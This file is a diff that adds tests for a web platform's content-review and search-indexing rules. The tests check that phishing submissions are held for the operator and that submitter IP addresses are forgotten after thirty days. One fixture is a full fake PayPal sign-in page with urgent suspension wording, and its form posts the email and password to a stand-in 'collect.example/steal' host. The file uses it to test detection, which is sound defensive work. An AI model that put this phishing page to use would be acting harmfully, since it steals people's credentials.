@@ -1,0 +1,128 @@
+import { afterEach, describe, expect, test } from "bun:test"
+import { DAY_MS } from "broadside"
+import { createTestHost, type TestHost } from "broadside/testing"
+import archive from "../modules/archive/module"
+import exchange from "../modules/exchange/module"
+import worlds from "../modules/worlds/module"
+
+let site: TestHost
+afterEach(() => site.close())
+
+const start = async (config = "") => {
+  site = await createTestHost({ modules: [archive, exchange, worlds], config })
+}
+const operator = () => ({ authorization: `Bearer ${site.operatorToken}` })
+// biome-ignore lint/suspicious/noExplicitAny: a test says itself what it expects
+const send = async (path: string, json: object, headers = {}): Promise<any> => {
+  const response = await site.fetch(path, { json, headers })
+  return Object.assign(await response.json(), { httpStatus: response.status })
+}
+const HTML = { accept: "text/html" }
+const robotsOf = async (url: string) =>
+  (await site.fetch(new URL(url).pathname, { headers: HTML })).headers.get("x-robots-tag")
+const isListedBySearch = async (path: string) =>
+  !(await (await site.fetch(path, { headers: HTML })).text()).includes('name="robots"')
+
+const GAME = {
+  title: "Tea Stall",
+  humanName: "Ada",
+  html: "<!doctype html><title>Tea Stall</title><p>Pour the tea.",
+}
+const SIGN_IN = `<!doctype html><title>PayPal: Sign in to your account</title>
+<h1>Your PayPal account has been limited</h1><p>Verify your identity within 24 hours or it will be suspended.</p>
+<form action="https://collect.example/steal" method="post"><input name="email"><input type="password" name="password">
+<button>Sign in</button></form>`
+const PHISHING = { title: "PayPal: verify your account", author: "Support", html: SIGN_IN }
+
+describe("what a review decides", () => {
+  test("a false sign-in form is held, and the operator sees why", async () => {
+    await start()
+    const published = await send("/api/workshop/submit", PHISHING)
+    expect(published).toMatchObject({ ok: true, held: true })
+    const queue = await site.fetch(`/api/operator/pages/${published.id}`, { headers: operator() })
+    expect(await queue.json()).toMatchObject({ held: true })
+  })
+
+  test("a change of a page to a false sign-in form is held as well, and one more change keeps it so", async () => {
+    await start()
+    const { id, edit_key } = await send("/api/workshop/submit", {
+      ...PHISHING,
+      html: GAME.html,
+      title: "Tea",
+    })
+    const path = `/api/workshop/${id}/edit`
+    expect((await send(path, { edit_key, html: SIGN_IN })).held).toBe(true)
+    expect((await send(path, { edit_key, html: GAME.html })).held).toBe(true)
+    expect(JSON.stringify(await site.json("/api/workshop/list"))).not.toContain(id)
+  })
+
+  test("with mode = off everything is listed, and search engines may list it", async () => {
+    await start('[review]\nmode = "off"')
+    const published = await send("/api/workshop/submit", PHISHING)
+    expect(published.held).toBeUndefined()
+    expect(await robotsOf(published.url)).toBeNull()
+  })
+
+  test("a closed site takes nothing new, except from its operator", async () => {
+    await start('[review]\nmode = "closed"')
+    for (const [path, json] of [
+      ["/api/games/submit", GAME],
+      ["/api/workshop/submit", PHISHING],
+      ["/api/exchange", { authorSlug: "ada", title: "Hello", threadBody: "Is anyone here?" }],
+    ] as const) {
+      expect(await send(path, json)).toMatchObject({ httpStatus: 403, code: "site-closed" })
+      expect((await send(path, json, operator())).ok).toBe(true)
+    }
+    expect((await site.json("/api/games")).games).toHaveLength(1)
+  })
+
+  test("thresholds are the operator's: with hold = 101 nothing is held", async () => {
+    await start("[review]\nhold = 101")
+    const published = await send("/api/workshop/submit", PHISHING)
+    expect(published.held).toBeUndefined()
+    expect(await robotsOf(published.url)).toBe("noindex, nofollow")
+  })
+})
+
+describe("search engines", () => {
+  test("are asked not to list a new game for three days", async () => {
+    await start()
+    const { id, url } = await send("/api/games/submit", GAME)
+    expect(await robotsOf(url)).toBe("noindex, nofollow")
+    expect(await isListedBySearch(`/archive/${id}`)).toBe(false)
+    site.advance(3 * DAY_MS + 1)
+    await site.runJob("core.forget-reviews")
+    expect(await robotsOf(url)).toBeNull()
+    expect(await isListedBySearch(`/archive/${id}`)).toBe(true)
+  })
+
+  test("wait as long again after a report in these days, and not at all once the operator has approved it", async () => {
+    await start()
+    const { id, url } = await send("/api/games/submit", GAME)
+    site.advance(2 * DAY_MS)
+    expect((await send("/api/reports", { url, reason: "spam" })).ok).toBe(true)
+    site.advance(2 * DAY_MS)
+    expect(await robotsOf(url)).toBe("noindex, nofollow")
+    expect((await send(`/api/operator/games/${id}/approve`, {}, operator())).ok).toBe(true)
+    expect(await robotsOf(url)).toBeNull()
+    expect(await isListedBySearch(`/archive/${id}`)).toBe(true)
+  })
+
+  test("may list at once what the owner of a protected name publishes", async () => {
+    await start()
+    const { key } = await send("/api/names/ada/claim", {})
+    const { url } = await send("/api/games/submit", { ...GAME, humanName: `Ada#${key}` })
+    expect(await robotsOf(url)).toBeNull()
+  })
+})
+
+test("where items came from is forgotten after thirty days", async () => {
+  await start()
+  await send("/api/games/submit", GAME)
+  const sources = () =>
+    site.store.connection.query("SELECT source FROM core_reviews").values().flat()
+  expect(sources()).toEqual(["192.0.2.1"])
+  site.advance(31 * DAY_MS)
+  await site.runJob("core.forget-reviews")
+  expect(sources()).toEqual([null])
+})
